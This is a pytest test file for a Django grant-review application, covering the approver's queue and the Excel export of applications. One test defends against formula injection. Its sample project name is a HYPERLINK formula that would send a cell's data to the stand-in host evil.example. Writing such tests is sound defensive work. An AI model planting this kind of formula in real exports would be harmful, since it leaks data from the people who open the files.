"""The approver's queue (filters, constant queries) and the Excel export of a call's applications."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from applications.models import Application
from reviews import services
from reviews.models import Assignment
from tests.factories import UserFactory
from tests.reviews.decision_support import *  # noqa: F403 (fixtures)
from tests.reviews.decision_support import submitted_review, under_review

pytestmark = pytest.mark.usefixtures("clock", "private_files")

S = Application.Status


def export_url(call):
    return f"/review/calls/{call.pk}/export.xlsx"


def rows_of(response):
    workbook = load_workbook(
        BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
    )
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    rows = []
    for row in sheet.iter_rows(min_row=2):
        values = [c.value for c in row]
        if all(value is None for value in values):
            break  # the data ends at the empty row; the 合计 row follows it
        rows.append(dict(zip(header, values, strict=True)))
    return header, rows, sheet


def total_row(sheet) -> dict:
    """The last row, after the empty one that ends the data."""
    header = [cell.value for cell in sheet[1]]
    assert all(cell.value is None for cell in sheet[sheet.max_row - 1])
    return dict(zip(header, [cell.value for cell in sheet[sheet.max_row]], strict=True))


# ---------------------------------------------------------------- export


def test_the_export_has_one_row_per_application_with_scores_recommendations_and_amounts(
    approver_client, alice, rex, dora, call
):
    decided = under_review(alice, call)
    submitted_review(decided, rex, value="4.0", suggested_yuan="500000")
    other = UserFactory(username="expert_two")
    submitted_review(decided, other, value="3.0", recommendation=Assignment.Recommendation.SUPPORT_LOWER)
    services.record_decision(
        actor=dora, application=decided, recommended=True, amount="456789.12", reasons="核减"
    )
    waiting = under_review(alice, call, code="9.1", facts={"service_cost": "200000.02"}, matter="云服务合同")
    Application.objects.filter(pk=decided.pk).update(acceptance_number="SL-2025-0001")

    response = approver_client.get(export_url(call))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    header, rows, sheet = rows_of(response)
    assert header == [
        "申报编号",
        "受理编号",
        "申报单位",
        "统一社会信用代码",
        "申报项目",
        "项目名称",
        "状态",
        "申请金额(元)",
        "加权平均分",
        "已提交评审数",
        "支持",
        "支持但核减金额",
        "不支持",
        "审定金额(元)",
        "一事一议",
    ]
    assert len(rows) == 2
    by_number = {row["申报编号"]: row for row in rows}
    first = by_number[decided.number]
    assert first["申报单位"] == "甲公司"
    assert first["受理编号"] == "SL-2025-0001"
    assert first["统一社会信用代码"] == decided.organization.uscc
    assert first["一事一议"] is None  # decided within the ceiling
    assert first["申报项目"] == "7.1 硬核技术攻关"
    assert first["项目名称"] == "智能视觉平台研发"
    assert first["状态"] == "拟支持"
    assert Decimal(str(first["申请金额(元)"])) == Decimal("600000.00")
    assert Decimal(str(first["加权平均分"])) == Decimal("3.50")
    assert (first["已提交评审数"], first["支持"], first["支持但核减金额"], first["不支持"]) == (2, 1, 1, 0)
    assert Decimal(str(first["审定金额(元)"])) == Decimal("456789.12")
    second = by_number[waiting.number]
    assert second["状态"] == "评审中"
    assert Decimal(str(second["申请金额(元)"])) == Decimal("100000.01")  # 50% of 200,000.02, half-up
    assert second["加权平均分"] is None and second["审定金额(元)"] is None
    # Amounts are numbers shown with two decimals, not text.
    money_cells = [cell for cell in sheet["H"][1:]] + [sheet.cell(row=r, column=14) for r in range(2, 4)]
    for cell in money_cells:
        if cell.value is not None:
            assert isinstance(cell.value, (int, float))
            assert cell.number_format == "#,##0.00"
    # The total sits outside the data (after an empty row) and adds up to the fen.
    total = total_row(sheet)
    assert total["申报编号"] == "合计(2 项)"
    assert Decimal(str(total["申请金额(元)"])) == Decimal("700000.01")
    assert Decimal(str(total["审定金额(元)"])) == Decimal("456789.12")


def test_text_an_enterprise_typed_is_never_a_formula_in_the_export(approver_client, alice, call):
    """A project named like a formula reaches the approver's Excel as text (formula injection)."""
    hostile = '=HYPERLINK("http://evil.example/?a="&D2,"点此查看")'
    application = under_review(alice, call)
    Application.objects.filter(pk=application.pk).update(project_name=hostile)
    _header, rows, sheet = rows_of(approver_client.get(export_url(call)))
    assert rows[0]["项目名称"] == "'" + hostile
    cell = sheet.cell(row=2, column=6)
    assert cell.data_type == "s" and not str(cell.value).startswith("=")


def test_the_export_leaves_out_drafts_and_other_calls(approver_client, alice, call):
    from tests.applications.conftest import draft
    from tests.reviews.decision_support import year_call

    draft(alice, call)
    year_call(2024)
    response = approver_client.get(export_url(call))
    _header, rows, _sheet = rows_of(response)
    assert rows == []


@pytest.mark.parametrize("who", ["carol", "rex", "alice"])
def test_only_approvers_export(client, request, carol, rex, alice, call, who):
    client.force_login(request.getfixturevalue(who))
    assert client.get(export_url(call)).status_code == 403


def test_anonymous_is_sent_to_log_in_for_the_export(client, call):
    response = client.get(export_url(call))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# ---------------------------------------------------------------- the queue


def test_the_queue_lists_every_submitted_application_and_filters(approver_client, alice, dora, call):
    from tests.applications.conftest import draft

    first = under_review(alice, call)
    cloud = under_review(alice, call, code="9.1", facts={"service_cost": "200000"}, matter="云服务合同")
    services.record_decision(actor=dora, application=first, recommended=True, amount="500000", reasons="好")
    draft(alice, call, matter="还没提交的草稿")
    page = approver_client.get("/review/applications/").content.decode()
    assert first.number in page and cloud.number in page
    assert "还没提交的草稿" not in page
    assert "¥500,000.00" in page  # the decided amount
    # Beside each, its submitted reviews against the call's quorum; short of it, flagged.
    row = page[page.index(cloud.number) :].split("</tr>")[0]
    assert "0 / 0" in row and "评审意见不足" not in row  # a call without reviewers needs none
    call.reviewers_per_application, call.review_quorum = 2, None  # the quorum: every reviewer
    call.save(update_fields=["reviewers_per_application", "review_quorum"])
    page = approver_client.get("/review/applications/").content.decode()
    row = page[page.index(cloud.number) :].split("</tr>")[0]
    assert "0 / 2" in row and "评审意见不足" in row

    page = approver_client.get("/review/applications/", {"item": "9.1"}).content.decode()
    assert cloud.number in page and first.number not in page
    page = approver_client.get("/review/applications/", {"status": S.RECOMMENDED}).content.decode()
    assert first.number in page and cloud.number not in page
    page = approver_client.get("/review/applications/", {"call": call.pk}).content.decode()
    assert first.number in page and export_url(call) in page


def test_the_queue_runs_a_constant_number_of_queries(approver_client, alice, dora, call):
    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert approver_client.get("/review/applications/").status_code == 200
        return len(queries)

    first = under_review(alice, call)
    services.record_decision(actor=dora, application=first, recommended=True, amount="1000", reasons="好")
    few = count()
    for n in range(4):
        application = under_review(alice, call, code="9.1", facts={"service_cost": "2000"}, matter=f"合同{n}")
        services.record_decision(
            actor=dora, application=application, recommended=True, amount="1000", reasons="好"
        )
    assert count() == few


@pytest.mark.parametrize("who", ["carol", "rex", "alice"])
def test_only_approvers_see_the_queue(client, request, carol, rex, alice, who):
    client.force_login(request.getfixturevalue(who))
    assert client.get("/review/applications/").status_code == 403
